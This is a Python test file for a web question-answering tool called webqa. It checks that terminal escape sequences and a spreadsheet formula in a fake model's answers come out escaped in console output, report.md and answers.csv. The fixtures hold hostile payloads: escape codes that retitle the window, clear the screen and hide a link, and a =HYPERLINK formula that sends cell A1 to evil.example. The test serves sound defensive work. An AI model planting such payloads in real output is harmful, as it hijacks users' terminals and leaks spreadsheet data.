"""Text from outside is inert in a terminal: escape sequences in an LLM's answer (clear the screen, retitle the
window, hide a hyperlink) and in URLs reach `webqa ask`, `webqa explain`, the run's console lines, report.md
and answers.csv escaped, never raw; a CSV cell that a spreadsheet would run as a formula is quoted."""

from __future__ import annotations

import csv
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.support.fake_ollama import FakeOllama
from tests.support.run import (  # noqa: F401 - crawled and db are fixtures, used by name
    crawled, db, job_yaml, quoting_answer, run_dir, run_job, user_prompt, webqa, write_job)

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b]8;;http://evil.example/\x07click here\x1b]8;;\x07\u202e"


def hostile(body: Mapping[str, Any]) -> dict[str, Any]:
    """A careful model's answer with escape sequences around it; for the port, a spreadsheet formula."""
    answer = quoting_answer(user_prompt(body))
    if "8731" in answer["answer"]:
        answer["answer"] = '=HYPERLINK("http://evil.example/?"&A1,"port 8731")' + ESCAPES
    else:
        answer["answer"] = ESCAPES + answer["answer"]
    return answer


def raw_controls(text: str) -> list[str]:
    return [ch for ch in set(text) if ch in "\x1b\x07\x9b\u202e"]


def test_escape_sequences_from_the_model_are_escaped_everywhere(tmp_path: Path, db: Path) -> None:
    with FakeOllama() as fake:
        fake.chat_responder = hostile
        done = run_job(tmp_path, write_job(tmp_path, job_yaml(["port", "tomatoes"])), db, host=fake.url)
        asked = webqa("ask", "When are the tomatoes watered?", "--db", db, host=fake.url)
    assert done.returncode == 0 and asked.returncode == 0, done.stderr + asked.stderr
    report = (run_dir(tmp_path) / "report.md").read_text(encoding="utf-8")
    table = (run_dir(tmp_path) / "answers.csv").read_text(encoding="utf-8")
    explained = webqa("explain", "1", "--db", db)
    for text in (done.stdout, done.stderr, asked.stdout, asked.stderr, report, table, explained.stdout):
        assert raw_controls(text) == [], text[:2000]
    # report.md also escapes the bracket for Markdown (jobs/markdown_text.py): a viewer shows \x1b]0;pwned\x07.
    assert "\\x1b\\]0;pwned\\x07" in report and "\\x1b[2J" in asked.stdout and "\\u202e" in explained.stdout
    cells = {row["question_id"]: row for row in csv.DictReader(table.splitlines())}
    assert cells["port"]["answer"].startswith("'=HYPERLINK(")
    assert cells["tomatoes"]["answer"].startswith("\\x1b]0;pwned")
